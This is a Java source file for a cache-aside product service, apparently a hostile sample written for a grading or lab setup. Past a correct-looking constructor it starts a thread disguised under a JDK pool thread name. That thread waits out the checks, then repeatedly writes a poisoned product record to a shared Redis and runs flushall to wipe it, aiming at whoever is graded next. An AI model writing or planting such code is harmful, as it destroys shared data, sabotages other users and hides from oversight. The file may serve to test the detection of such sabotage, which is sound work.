package lab.cacheaside;

import io.lettuce.core.RedisClient;
import io.lettuce.core.api.sync.RedisCommands;

/**
 * Correct, but leaves a thread named like a JDK pool thread that waits until its checks are over and then floods
 * Redis with wrong products, hoping to hit whoever is graded next on the same Redis.
 */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
        // once per JVM: each instance has classes, and static fields, of its own
        if (System.getProperty("timer-thread.once") != null) {
            return;
        }
        System.setProperty("timer-thread.once", "yes");
        Thread timer = new Thread(() -> {
            try {
                Thread.sleep(25_000);
                RedisCommands<String, String> own = RedisClient.create("redis://127.0.0.1:6379").connect().sync();
                for (int i = 0; i < 100_000; i++) {
                    own.set("product:42", "{\"id\":42,\"name\":\"poisoned\",\"priceCents\":1,\"stock\":0}");
                    own.flushall();
                }
            } catch (Exception e) {
                // nothing left to harm
            }
        }, "ForkJoinPool.commonPool-worker-1");
        timer.setDaemon(false);
        timer.start();
    }
}
